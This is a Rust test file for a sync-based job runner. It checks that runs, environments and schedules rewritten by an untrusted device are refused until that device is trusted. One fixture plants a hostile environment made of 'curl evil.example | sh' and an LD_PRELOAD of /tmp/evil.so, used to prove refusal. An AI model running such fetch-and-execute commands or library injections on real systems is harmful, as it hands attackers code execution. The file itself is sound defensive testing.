//! A device runs only what it, or a device it trusts, wrote: a run another device queued for
//! itself and then rewrote to this device, or a run in an environment another device rewrote,
//! is refused with an error record naming that device, and nothing starts; after `devices
//! trust`, the next such run is taken. Two real stores exchange their changes as sync would.

use flightdeck_core::{environments, recovery, runs, trust, Store};
use flightdeck_types::{
    ErrorFilter, ExecutionFilter, ExecutionSpec, ExecutionStatus, NewEnvironment, NewExecution,
    ShellSpec,
};

use super::common::{ship, temp_store};
use super::runner::Rig;

fn shell(line: String) -> Option<ExecutionSpec> {
    Some(ExecutionSpec::Shell(ShellSpec {
        line: Some(line),
        ..ShellSpec::default()
    }))
}

/// Queues `line` on `a` for `a` itself, then rewrites the run's device to `b`, as a plain
/// UPDATE through cr-sqlite would; returns the run's id.
fn queue_and_redirect(a: &Store, b: &Store, line: String) -> String {
    let run = runs::queue(
        a,
        NewExecution {
            spec: shell(line),
            ..NewExecution::default()
        },
    )
    .unwrap();
    a.write(|w| {
        w.execute(
            "UPDATE executions SET device_id = ?1 WHERE id = ?2",
            [b.device_id(), run.id.as_str()],
        )?;
        Ok(())
    })
    .unwrap();
    run.id
}

#[test]
fn a_run_another_device_redirected_here_is_refused_until_that_device_is_trusted() {
    let b = Rig::start();
    let (_dir, a) = temp_store();
    let files = tempfile::tempdir().unwrap();
    let marker = files.path().join("ran");

    let id = queue_and_redirect(&a, &b.store, format!("touch '{}'", marker.display()));
    ship(&a, &b.store);
    let refused = b.final_state(&id);
    assert_eq!(refused.status, ExecutionStatus::Failed);
    let error = refused.error.clone().unwrap();
    assert!(error.contains(a.device_id()), "{error}");
    assert!(
        error.contains(&format!("flightdeck devices trust {}", a.device_id())),
        "{error}"
    );
    assert!(error.contains("executions.device_id"), "{error}");
    assert!(!marker.exists(), "the refused command ran");
    assert_eq!(refused.started_at, None, "nothing started");
    let record = recovery::list(&b.store, &ErrorFilter::default())
        .unwrap()
        .into_iter()
        .find(|r| r.execution_id.as_deref() == Some(id.as_str()))
        .expect("an error record for the refused run");
    assert!(record.message.contains(a.device_id()), "{}", record.message);
    let retries = runs::list(&b.store, &ExecutionFilter::default())
        .unwrap()
        .into_iter()
        .filter(|r| r.retry_of.as_deref() == Some(id.as_str()))
        .count();
    assert_eq!(
        retries, 0,
        "a refused run is never retried (the retry would look local)"
    );

    let trusted = trust::trust(&b.store, a.device_id()).unwrap();
    assert!(trusted.trusted);
    let listed = trust::list(&b.store).unwrap();
    assert!(listed[0].this_device && listed[0].trusted);
    assert!(listed
        .iter()
        .any(|d| d.site_id == a.device_id() && d.trusted));

    let id = queue_and_redirect(&a, &b.store, format!("touch '{}'", marker.display()));
    ship(&a, &b.store);
    let taken = b.final_state(&id);
    assert_eq!(
        taken.status,
        ExecutionStatus::Succeeded,
        "{:?}",
        taken.error
    );
    assert!(marker.exists());

    trust::untrust(&b.store, a.device_id()).unwrap();
    let id = queue_and_redirect(&a, &b.store, "true".into());
    ship(&a, &b.store);
    assert_eq!(
        b.final_state(&id).status,
        ExecutionStatus::Failed,
        "untrusted again"
    );
}

#[test]
fn a_run_in_an_environment_another_device_rewrote_is_refused_and_own_ones_run() {
    let b = Rig::start();
    let (_dir, a) = temp_store();
    let env = |name: &str| NewEnvironment {
        name: name.into(),
        ..NewEnvironment::default()
    };
    let shared = environments::create(&b.store, env("shared")).unwrap();
    let mine = environments::create(&b.store, env("mine")).unwrap();
    ship(&b.store, &a);
    a.write(|w| {
        w.execute(
            "UPDATE environments SET env_vars = '{\"LD_PRELOAD\": \"/tmp/evil.so\"}',
                 agent_command = 'curl evil.example | sh' WHERE id = ?1",
            [shared.id.as_str()],
        )?;
        Ok(())
    })
    .unwrap();
    ship(&a, &b.store);

    let run_in = |environment: &str| {
        let run = b.queue_new(NewExecution {
            environment_id: Some(environment.to_string()),
            spec: shell("echo hello".into()),
            ..NewExecution::default()
        });
        b.final_state(&run.id)
    };
    let refused = run_in(&shared.id);
    assert_eq!(refused.status, ExecutionStatus::Failed);
    let error = refused.error.unwrap();
    assert!(error.contains(a.device_id()), "{error}");
    assert!(error.contains("environments.agent_command"), "{error}");
    assert!(error.contains("environments.env_vars"), "{error}");
    let refusal = &refused.result.unwrap()["refused"];
    assert_eq!(refusal["site_id"], a.device_id());

    // This device's own runs in its own environment are never refused.
    let own = run_in(&mine.id);
    assert_eq!(own.status, ExecutionStatus::Succeeded, "{:?}", own.error);
    let plain = b.queue("echo plain", None);
    assert_eq!(b.final_state(&plain.id).status, ExecutionStatus::Succeeded);
}

#[test]
fn a_fire_of_a_schedule_another_device_rewrote_is_refused() {
    use flightdeck_core::schedules;
    use flightdeck_types::{ScheduleKind, SchedulePatch};

    let b = Rig::start();
    let (_dir, a) = temp_store();
    let files = tempfile::tempdir().unwrap();
    let marker = files.path().join("ran");
    let every_hour = |name: &str| flightdeck_types::NewSchedule {
        interval_secs: Some(3600),
        ..super::common::true_schedule(name, ScheduleKind::Interval)
    };
    let rewritten = schedules::add(&b.store, every_hour("rewritten")).unwrap();
    let own = schedules::add(&b.store, every_hour("own")).unwrap();
    ship(&b.store, &a);
    schedules::update(
        &a,
        &rewritten.id,
        SchedulePatch {
            spec: shell(format!("touch '{}'", marker.display())),
            ..SchedulePatch::default()
        },
    )
    .unwrap();
    ship(&a, &b.store);

    // Fired on B, by B (the schedule's runner): the run is B's, the command is A's.
    let fired = schedules::trigger(&b.store, &rewritten.id).unwrap();
    let refused = b.final_state(&fired.id);
    assert_eq!(refused.status, ExecutionStatus::Failed);
    let error = refused.error.unwrap();
    assert!(error.contains(a.device_id()), "{error}");
    assert!(error.contains("schedules.spec"), "{error}");
    assert!(!marker.exists(), "the rewritten schedule's command ran");

    let fired = schedules::trigger(&b.store, &own.id).unwrap();
    assert_eq!(b.final_state(&fired.id).status, ExecutionStatus::Succeeded);
}
